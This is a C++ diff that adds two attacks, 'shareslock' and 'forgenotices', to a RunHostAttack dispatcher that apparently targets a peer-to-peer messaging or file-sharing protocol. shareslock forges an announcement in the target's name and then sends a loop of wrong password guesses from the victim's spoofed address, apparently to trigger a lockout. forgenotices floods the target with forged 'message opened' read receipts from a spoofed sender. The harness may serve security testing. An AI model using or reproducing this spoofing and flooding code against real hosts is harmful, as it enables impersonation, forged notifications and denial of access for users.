@@ -153,6 +153,50 @@ bool guessflood(const QStringList &words, quint32 target, quint16 port, const st
     return true;
 }
 
+bool shareslock(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
+{
+    const quint32 victim = QHostAddress(words.value(1)).toIPv4Address();
+    const int n = qBound(1, words.value(2).toInt(), 100);
+    const int gapMs = qBound(0, words.value(3).toInt(), 10000);
+    const qint32 size = qBound(1, words.value(4).toInt(), 1 << 20);
+    // In the target's name, from a port of its address no one listens on:
+    // the victim lists that record and asks it for the new head picture.
+    ForgedPeer entry(target, quint16(30000 + size % 20000), victim, port, QStringLiteral("owner"));
+    entry.header().headPictureSize = size;
+    const bool listed = entry.send(CMD_ANNOUNCE_ENTRY, "owner", "group") > 0;
+    PumpEvents(300);
+    // Each guess from the victim's own port: the target's challenge reaches
+    // the victim's program. Each text is new, so no guess is a copy of one
+    // sent in an earlier round.
+    ForgedPeer guesser(victim, port, target, port, QStringLiteral("victim"));
+    int guesses = 0;
+    for (int i = 0; i < n; ++i) {
+        if (i > 0)
+            PumpEvents(gapMs);
+        guesses += guesser.send(CMD_GET_SHARE_LIST_PASSWORD, ScramblePassword(QStringLiteral("wrong%1-%2").arg(size).arg(i)))
+            > 0;
+    }
+    report(QStringLiteral("SHARESLOCK entries %1 guesses %2").arg(int(listed)).arg(guesses));
+    return true;
+}
+
+bool forgenotices(
+    const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
+{
+    const quint32 sender = QHostAddress(words.value(1)).toIPv4Address();
+    const int seconds = qBound(1, words.value(2).toInt(), 60);
+    ForgedPeer peer(sender, port, target, port, QStringLiteral("owner"));
+    int sent = 0;
+    for (int i = 0; i < seconds * 10; ++i) {
+        sent += peer.send(CMD_MESSAGE_OPENED | OPT_READ_CHECK, PacketCodec::FormatNumber(quint32(7000000 + i))) > 0;
+        if (i == 0)
+            report(QStringLiteral("FORGENOTICES started"));
+        PumpEvents(100);
+    }
+    report(QStringLiteral("FORGENOTICES sent %1").arg(sent));
+    return true;
+}
+
 bool rightpassword(
     const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
 {
@@ -194,6 +238,10 @@ std::optional<bool> RunHostAttack(
         return forgeguess(words, target, port, report);
     if (attack == QLatin1String("guessflood"))
         return guessflood(words, target, port, report);
+    if (attack == QLatin1String("shareslock"))
+        return shareslock(words, target, port, report);
+    if (attack == QLatin1String("forgenotices"))
+        return forgenotices(words, target, port, report);
     if (attack == QLatin1String("rightpassword"))
         return rightpassword(words, target, port, report);
     return std::nullopt;
